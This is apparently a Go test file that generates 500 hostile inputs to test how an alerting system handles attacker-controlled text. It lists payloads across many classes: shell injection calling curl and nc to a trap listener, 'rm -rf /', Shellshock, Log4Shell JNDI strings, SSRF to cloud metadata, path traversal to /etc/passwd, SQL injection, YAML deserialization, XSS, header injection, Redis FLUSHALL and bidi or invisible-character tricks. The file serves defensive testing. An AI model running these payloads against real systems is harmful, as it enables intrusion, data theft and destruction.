package main

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
)

// hostileText is a text that somebody who can write alerts would try. Its mark stands in it, so that it can be found wherever it comes to.
type hostileText struct {
	mark, class, text string
}

// hostileTexts is how many there are.
const hostileTexts = 500

// markOf finds a hostile text by its mark, however it was escaped on its way.
var markOf = regexp.MustCompile(`zq[0-9]{3}`)

// Places in the classes below: M is the text's mark, TRAP a listener of the test's own that nobody may ever call.
const (
	placeOfMark = "{M}"
	placeOfTrap = "{TRAP}"
)

// hostileClasses are the kinds of attack, each with what is known of it.
var hostileClasses = []struct {
	name  string
	texts []string
}{
	{"shell", []string{
		"$(curl http://{TRAP}/{M})", "`curl http://{TRAP}/{M}`", "; curl http://{TRAP}/{M} #", "| nc {TRAP} {M}", "&& touch /tmp/{M}", "|| rm -rf /{M}",
		"${IFS}{M}", "$HOME/{M}", "> /tmp/{M}", "-rf {M}", "--help={M}", `'"; reboot; echo {M} "`, "!!{M}", "~root/{M}", "() { :;}; curl {TRAP}/{M}", "%COMSPEC% /c {M}",
	}},
	{"template", []string{
		"{{ .Target.Health }}{M}", `{{ printf "http://{TRAP}/{M}" }}`, `{{ template "{M}" }}`, `{{ env "HOME" }}{M}`, "{{ range . }}{M}{{ end }}", "{% {M} %}",
		"${jndi:ldap://{TRAP}/{M}}", "#{{M}} ", "<%= {M} %>", "${{ {M} }}", "{{{M}", "{M}}}", "%s%n%d{M}", "{0}{M}", `{{ .Alert.Labels | safeHtml }}{M}`,
	}},
	{"cel", []string{
		"details.{M}", "health.sick || true // {M}", "alert.labels.{M}", `size("{M}") > 0`, `duration("{M}")`, "string(details.{M})", "true || {M}", "[{M}].all(x, true)",
	}},
	{"url", []string{
		"http://{TRAP}/{M}", "https://{TRAP}/{M}", "http://169.254.169.254/computeMetadata/v1/?{M}", "http://metadata.google.internal/{M}",
		"file:///etc/passwd?{M}", "gopher://{TRAP}/_{M}", "ftp://{TRAP}/{M}", "ldap://{TRAP}/{M}", "dict://{TRAP}/{M}", "//{TRAP}/{M}", "http://{TRAP}@127.0.0.1/{M}",
		"http://[::1]/{M}", "http://0x7f000001/{M}", "unix:///var/run/docker.sock?{M}", "data:text/html,{M}", "javascript:alert('{M}')", "redis://{TRAP}/{M}",
		"mongodb://{M}:x@{TRAP}/", "www.{M}.example.com", "http://{M}.{TRAP}/", "HTTP://{TRAP}/{M}", "http:\\\\{TRAP}\\{M}",
	}},
	{"network", []string{
		"0.0.0.0/0 {M}", "::/0 {M}", "10.0.0.0/8 {M}", "0.0.0.0/1 {M}", "128.0.0.0/1 {M}", "203.0.113.10/32 {M}", "1.1.1.1 {M}", "::ffff:0:0/96 {M}", "* {M}", "127.0.0.1 {M}",
		"{M},0.0.0.0/0", "0.0.0.0/0\n{M}",
	}},
	{"control", []string{
		"\x00{M}", "{M}\x00\x00", "\x1b[31m{M}\x1b[0m", "\x1b]8;;http://{TRAP}/{M}\x07x\x1b]8;;\x07", "\x1b[2J\x1b[H{M}", "\x07\x08{M}", "\x7f{M}", "\u009b31m{M}", "\u0085{M}",
		"\v\f{M}", "{M}\ttab", "\u2028{M}", "\u2029{M}", "\x1bPq{M}\x1b\\", "x\b\b\b{M}", "\r{M} overwritten",
	}},
	{"bidi", []string{
		"\u202e{M}\u202c", "\u2066{M}\u2069", "\u2067{M}", "\u200f{M}", "\u061c{M}", "\u202d{M}", "\u202a\u202b{M}", "{M}\u202egpj.exe",
	}},
	{"invisible", []string{
		"z\u200bq {M}\u200b", "\u200d{M}", "\u2060{M}", "\ufeff{M}", "\u00ad{M}", "\U000e0041\U000e0042{M}", "\u180e{M}", "{M}\u200c\u200c\u200c", "\ufffe{M}", "\ue000{M}",
	}},
	{"not UTF-8", []string{"\xff\xfe{M}", "\xc0\x80{M}", "{M}\xed\xa0\x80", "\xf4\x90\x80\x80{M}", "{M}\xe2\x82"}},
	{"long", []string{
		"{M}" + strings.Repeat("A", 900), "{M}" + strings.Repeat("😀", 900), "{M}" + strings.Repeat(" ", 900), "{M}" + strings.Repeat("\u0301", 900),
		"{M}" + strings.Repeat("<", 900), "{M}" + strings.Repeat("\n", 900), "{M}" + strings.Repeat("{{", 450), "{M}" + strings.Repeat("&", 900),
	}},
	{"slack", []string{
		"<!channel> {M}", "<!here> {M}", "<!everyone> {M}", "<@U024BE7LH> {M}", "<#C1|{M}>", "<http://{TRAP}/{M}|click>", "*{M}*", "_{M}_", "~{M}~", "```{M}```", "`{M}`",
		":fire: {M}", "&lt;!channel&gt; {M}", "<!subteam^SAZ94GDB8> {M}", "<!date^1392734382^{date}|{M}>", "> {M}", "@channel @here {M}", "<mailto:a@example.com|{M}>",
		"<!channel|{M}>", "\n> {M}",
	}},
	{"markdown", []string{
		"[{M}](http://{TRAP}/{M})", "![{M}](http://{TRAP}/{M}.png)", "# {M}", "\n# {M}", "\n\n## {M}\n", "\n| {M} | b |\n|---|---|\n| c | d |", "<script>alert('{M}')</script>",
		"<img src=x onerror=alert('{M}')>", "***{M}***", "\n---\n{M}", "\n- [ ] {M}", "\n[{M}]: http://{TRAP}/{M}", "<http://{TRAP}/{M}>", "[{M}](javascript:alert(1))",
		"<details open>{M}</details>", "[^{M}]", "\n1. {M}", "~~{M}~~", "&#91;{M}&#93;", "</textarea>{M}", "\n===\n{M}", "\n    {M}", "<a href='//{TRAP}/{M}'>x</a>", "<!-- {M} -->",
		"\\[{M}\\](http://{TRAP}/)", "\n```\n{M}\n```", "$${M}$$", "<https://{TRAP}/{M}>",
	}},
	{"matcher", []string{
		`{M}{a="b"}`, `up{job=~".*"} or vector(1) # {M}`, `alertname="HealthCheckFailed",x="{M}"`, `severity=~".+{M}"`, `", service="mixillo-admin", x="{M}`, ".*{M}", "^(?:.*){M}$",
		"(a+)+{M}", "mixillo-backend {M}", "HealthCheckFailed\x00{M}",
	}},
	{"log", []string{
		"\ntime=2026-01-01T00:00:00Z level=ERROR msg=\"{M}\"", "\n{\"level\":\"ERROR\",\"msg\":\"{M}\"}", "\r\nINFO {M}", "{M}\" level=ERROR msg=\"forged", "\nremediator: FIXED (verified): {M}.",
		"\njournal head {M}", "\n- nothing {M}", "\nHow to undo it\n- run {M}",
	}},
	{"header", []string{
		"\r\nX-{M}: 1\r\n\r\n", "%0d%0aSet-Cookie: {M}", "\r\nHost: {TRAP}\r\n{M}", "\nAuthorization: Bearer {M}", "\r\n\r\nGET /{M} HTTP/1.1\r\nHost: {TRAP}\r\n\r\n", "\u560d\u560a{M}",
	}},
	{"path", []string{
		"../../../../etc/passwd {M}", "..%2f..%2f{M}", `..\..\{M}`, "/incidents/../users/{M}", `\\{TRAP}\{M}`, "%2e%2e/{M}", "....//{M}", "/v1/projects/other/{M}",
		"projects/other/locations/x/services/{M}", "{M}%00.yaml", "secrets/{M}", "?{M}=1&x=2#y",
	}},
	{"sql", []string{
		"' OR 1=1 --{M}", "'; DROP TABLE runs; --{M}", "' UNION SELECT 1,2,'{M}", "$$;{M};$$", "{M}'); DELETE FROM events; --", `"; ATTACH DATABASE '/tmp/{M}' AS x; --`, "\\'{M}", "%' {M} _%",
	}},
	{"yaml", []string{
		"{M}: !!python/object/apply:os.system [id]", "*{M} &{M}", "- {M}\n  mode: auto", "---\n{M}", "{M}: |", "<<: *{M}", "mode: auto # {M}", "!!binary {M}",
	}},
	{"json", []string{
		`{"{M}":1}`, `"],"{M}":["`, `\u0000{M}`, `{"__proto__":{"{M}":1}}`, `{"$ne":"{M}"}`, `","service":"{M}`, `{"$where":"{M}"}`, `"}}]}{M}`,
	}},
	{"command", []string{"\r\nFLUSHALL\r\n{M}", "*1\r\n$8\r\nFLUSHALL\r\n{M}", "EVAL \"return 1\" 0 {M}", "cache:* {M}", "KEYS * {M}", "SELECT 3 {M}"}},
}

// dressings are how a text is put on: as it is, in quotes, on a line of its own.
var dressings = []string{"%s", `"%s"`, "x\n%s\n"}

// hostile500 are the texts, the same each time but for the trap's address.
func hostile500(trap string) []hostileText {
	var all []hostileText
	for _, dressing := range dressings {
		for _, class := range hostileClasses {
			for _, text := range class.texts {
				mark := fmt.Sprintf("zq%03d", len(all))
				text = strings.NewReplacer(placeOfMark, mark, placeOfTrap, trap).Replace(text)
				all = append(all, hostileText{mark: mark, class: class.name, text: fmt.Sprintf(dressing, text)})
			}
		}
	}
	return all[:hostileTexts]
}

// TestHostileTexts: there are enough, all different, of all classes, and none too long for a label.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	seen, classes := map[string]bool{}, map[string]int{}
	for _, h := range hostile500("127.0.0.1:9") {
		if !strings.Contains(h.text, h.mark) || len([]rune(h.text)) > 1000 || seen[h.text] {
			t.Errorf("%s of %s: %q", h.mark, h.class, h.text)
		}
		seen[h.text] = true
		classes[h.class]++
	}
	want(t, "texts", len(seen), hostileTexts)
	want(t, "classes", len(classes), len(hostileClasses))
}
